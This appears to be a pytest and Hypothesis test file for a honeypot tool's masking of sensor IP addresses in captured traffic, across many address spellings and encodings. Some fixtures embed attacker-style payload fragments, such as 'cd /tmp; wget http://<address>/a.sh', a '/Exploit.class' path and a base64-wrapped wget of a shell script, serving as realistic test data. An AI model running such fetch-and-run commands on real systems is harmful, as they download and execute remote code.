"""The sensors' addresses are found in every writing that docs/privacy.md promises, and nothing else is touched."""

from __future__ import annotations

import base64
import re
from collections.abc import Callable
from ipaddress import IPv4Address, IPv6Address, ip_network
from itertools import product

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from darkscope.ingest.honeypot.masking import MASK, Masker
from darkscope.ingest.sensors import Watched

NETWORKS = ("192.0.2.0/25", "198.51.100.7/32", "2001:db8:5::/48")
MASKER = Masker([Watched.of([ip_network(one)]) for one in NETWORKS])
NOBODY = Masker([])
TARGET = int(IPv4Address("203.0.113.77"))
"""Of no network in the settings: known because the connection went to it."""

TARGET6 = int(IPv6Address("2001:db8:77::1:9"))


def masked(data: bytes, masker: Masker = MASKER) -> bytes:
    return masker.mask(data, 4, TARGET)


def masked6(data: bytes, masker: Masker = MASKER) -> bytes:
    return masker.mask(data, 6, TARGET6)


Writing = Callable[[int], bytes]


def octets(address: int) -> list[int]:
    return list(address.to_bytes(4))


WRITINGS: dict[str, Writing] = {
    "dotted": lambda address: str(IPv4Address(address)).encode(),
    "leading zeros": lambda address: ".".join(f"{octet:03}" for octet in octets(address)).encode(),
    "octal": lambda address: ".".join(f"0{octet:o}" for octet in octets(address)).encode(),
    "hexadecimal numbers": lambda address: ".".join(f"0x{octet:X}" for octet in octets(address)).encode(),
    "mixed": lambda address: "0x{:x}.{}.0{:o}.{}".format(*octets(address)).encode(),
    "three numbers": lambda address: f"{address >> 24}.{address >> 16 & 255}.{address & 0xFFFF}".encode(),
    "two numbers": lambda address: f"{address >> 24}.{address & 0xFFFFFF}".encode(),
    "decimal": lambda address: str(address).encode(),
    "one octal": lambda address: f"0{address:o}".encode(),
    "one hexadecimal": lambda address: f"0x{address:08x}".encode(),
    "digits": lambda address: f"{address:08X}".encode(),
    "digits backwards": lambda address: (
        int.from_bytes(address.to_bytes(4), "little").to_bytes(4).hex().encode()
    ),
    "decimal backwards": lambda address: str(int.from_bytes(address.to_bytes(4), "little")).encode(),
    "backwards": lambda address: ".".join(map(str, reversed(octets(address)))).encode() + b".in-addr.arpa",
    "dashes": lambda address: "-".join(map(str, octets(address))).encode() + b".example.org",
    "underscores": lambda address: "_".join(map(str, octets(address))).encode(),
    "commas": lambda address: ",".join(map(str, octets(address))).encode() + b",31,144",
    "pairs": lambda address: address.to_bytes(4).hex(":").encode(),
    "pairs with spaces": lambda address: address.to_bytes(4).hex(" ").encode(),
    "pairs with signs": lambda address: ",".join(f"0x{octet:02x}" for octet in octets(address)).encode(),
    "mapped": lambda address: b"[::ffff:%s]" % str(IPv4Address(address)).encode(),
    "mapped digits": lambda address: f"::ffff:{address >> 16:x}:{address & 0xFFFF:x}".encode(),
    "6to4": lambda address: f"2002:{address >> 16:x}:{address & 0xFFFF:x}::1".encode(),
    "nat64": lambda address: f"64:ff9b::{address >> 16:x}:{address & 0xFFFF:x}".encode(),
}

WRITINGS6: dict[str, Writing] = {
    "short": lambda address: str(IPv6Address(address)).encode(),
    "long": lambda address: IPv6Address(address).exploded.upper().encode(),
    "half short": lambda address: re.sub(r"\b0+(?=\w)", "", IPv6Address(address).exploded).encode(),
    "with a port": lambda address: f"[{IPv6Address(address)}]:8080".encode(),
    "with a zone": lambda address: f"{IPv6Address(address)}%eth0".encode(),
    "with dotted end": lambda address: (
        IPv6Address(address).exploded[:30] + str(IPv4Address(address & 0xFFFFFFFF))
    ).encode(),
    "dashes": lambda address: IPv6Address(address).exploded.replace(":", "-").encode() + b".ip6.example",
    "short with dashes": lambda address: (
        str(IPv6Address(address)).replace(":", "-").encode() + b".ip6.example"
    ),
    "digits": lambda address: address.to_bytes(16).hex().encode(),
    "backwards": lambda address: IPv6Address(address).reverse_pointer.encode(),
}


def utf16(text: bytes) -> bytes:
    return text.decode("latin-1").encode("utf-16-le")


ENCODINGS: dict[str, Callable[[bytes], bytes]] = {
    "plain": lambda text: text,
    "url": lambda text: "".join(f"%{byte:02X}" for byte in text).encode(),
    "url dots": lambda text: text.replace(b".", b"%2e").replace(b":", b"%3A"),
    "url unicode": lambda text: "".join(f"%u{byte:04x}" for byte in text).encode(),
    "escapes": lambda text: "".join(f"\\x{byte:02x}" for byte in text).encode(),
    "unicode escapes": lambda text: "".join(f"\\u{byte:04x}" for byte in text).encode(),
    "braced escapes": lambda text: "".join(f"\\u{{{byte:x}}}" for byte in text).encode(),
    "octal escapes": lambda text: "".join(f"\\{byte:03o}" for byte in text).encode(),
    "entities": lambda text: "".join(f"&#{byte};" for byte in text).encode(),
    "hexadecimal entities": lambda text: "".join(f"&#x{byte:x};" for byte in text).encode(),
    "utf-16": utf16,
    "base64": base64.b64encode,
    "base64 shifted": lambda text: base64.b64encode(b"x" + text + b"/tail"),
    "base64 shifted twice": lambda text: base64.b64encode(b"cd /tmp; wget http://" + text + b"/a.sh"),
    "base64 for urls": lambda text: base64.urlsafe_b64encode(b"?" + text).rstrip(b"="),
    "base64 in a path": lambda text: b"/a/" + base64.b64encode(text).rstrip(b"=") + b"/Exploit.class",
}


ADDRESSES = [TARGET, int(IPv4Address("192.0.2.10")), int(IPv4Address("198.51.100.7"))]
ADDRESSES6 = [TARGET6, int(IPv6Address("2001:db8:5::abcd"))]


@pytest.mark.parametrize(("writing", "encoding"), list(product(WRITINGS, ENCODINGS)))
def test_an_ipv4_address_is_found(writing: str, encoding: str) -> None:
    for address in ADDRESSES:
        secret = ENCODINGS[encoding](WRITINGS[writing](address))
        for before, after in ((b"", b""), (b"GET /?x=", b"&y=2 HTTP/1.1"), (b"http://", b":8080/")):
            result = masked(before + secret + after)
            assert MASK in result, result
            assert secret not in result


@pytest.mark.parametrize(("writing", "encoding"), list(product(WRITINGS6, ENCODINGS)))
def test_an_ipv6_address_is_found(writing: str, encoding: str) -> None:
    for address in ADDRESSES6:
        secret = ENCODINGS[encoding](WRITINGS6[writing](address))
        for before, after in ((b"", b""), (b"GET /?x=", b"&y=2 HTTP/1.1"), (b"http://[", b"]/")):
            result = masked6(before + secret + after)
            assert MASK in result, result
            assert secret not in result


@pytest.mark.parametrize(
    ("data", "result"),
    [
        (b"Host: 203.0.113.77:8080\r\n", b"Host: [sensor]:8080\r\n"),
        (b"http://203.0.113.77/", b"http://[sensor]/"),
        (b"[2001:db8:5::1]:80", b"[[sensor]]:80"),
        (b"203.0.113.77 and 192.0.2.1", b"[sensor] and [sensor]"),
        (b"a=%32%30%33.0.113.77&b", b"a=[sensor]&b"),
        (b"\x01\x02\xcb\x00\x71\x4d\x03", b"\x01\x02[sensor]\x03"),
        (b"\x4d\x71\x00\xcb", b"[sensor]"),
        (b"", b""),
    ],
)
def test_what_stands_around_an_address_stays(data: bytes, result: bytes) -> None:
    assert masked(data) == result


def test_an_address_behind_another_number_goes_with_it() -> None:
    assert masked(b"x1.203.0.113.77.example") == b"x1.[sensor].example"


def test_raw_bytes_are_found_in_encodings() -> None:
    raw = TARGET.to_bytes(4)
    for name in ("escapes", "url", "octal escapes", "unicode escapes", "base64 shifted"):
        assert MASK in masked(ENCODINGS[name](raw)), name
    assert MASK in masked6(TARGET6.to_bytes(16))


@pytest.mark.parametrize("depth", [1, 2, 3])
def test_encodings_within_encodings_are_undone(depth: int) -> None:
    for inner, outer in product(("url", "escapes", "base64", "utf-16"), ("url", "base64", "entities")):
        text = b"203.0.113.77"
        for name in (inner, outer, "url")[:depth]:
            text = ENCODINGS[name](text)
        assert MASK in masked(text), (inner, outer)


@pytest.mark.parametrize(
    "data",
    [
        b"GET /photo/p/api/album.php HTTP/1.1\r\nHost: 8.8.8.8\r\nUser-Agent: Mozilla/5.0 (Windows NT 10.0)\r\n",
        b"192.0.2.128 192.0.20.1 1192.0.2.1 203.0.113.7 203.0.113.770",
        b"2001:db8:6::1 fe80::1 ::1 12:30:45 a:b:c",
        b"1700000000 deadbeef cafebabe 00000000000000000000000000000000",
        b"echo " + base64.b64encode(b"wget http://8.8.8.8/x.sh"),
        bytes(range(256)),
        b"Chrome/126.0.6478.127 Safari/537.36",
        b"------WebKitFormBoundary7MA4YWxkTrZu0gW",
        b"%%%25%2525%zz\\x\\u12&#;&#x;",
        b":::::::: -------- ........ 0x0x0x",
    ],
)
def test_what_is_no_sensors_address_stays(data: bytes) -> None:
    assert masked(data) == data
    assert masked6(data) == data


def test_without_networks_the_target_alone_is_masked() -> None:
    data = b"203.0.113.77 192.0.2.1 203.0.113.78"
    assert masked(data, NOBODY) == b"[sensor] 192.0.2.1 203.0.113.78"


@given(
    st.lists(
        st.sampled_from(
            [
                b"203.",
                b"0.113.77",
                b"192.0.2.",
                b"%",
                b"\\x",
                b"&#",
                b"0x",
                b"::",
                b"2001:db8:5",
                b"-",
                b"YWJj",
                b"\0",
            ]
        )
        | st.binary(max_size=6),
        max_size=40,
    )
)
@example([b"192.0.2.", b"0x", b"203."])
@example([b"2001:db8:5:" * 300])
@example([b"0x1." * 3000])
@example([b"1-" * 3000])
@example([b"a:" * 3000])
@example([b"%25" * 3000])
@example([b"QUJD" * 4000])
@example([b"00" * 8000])
def test_nothing_that_may_come_fails_and_no_dotted_address_stays(parts: list[bytes]) -> None:
    data = b"".join(parts)
    for result in (masked(data), masked6(data)):
        for found in re.finditer(rb"(?<![0-9.])(?:[0-9]{1,3}\.){3}[0-9]{1,3}(?![0-9])", result):
            parts_of = [int(part) for part in found[0].split(b".")]
            if max(parts_of) < 256:
                address = IPv4Address(bytes(parts_of))
                assert not any(address in ip_network(one) for one in NETWORKS[:2])
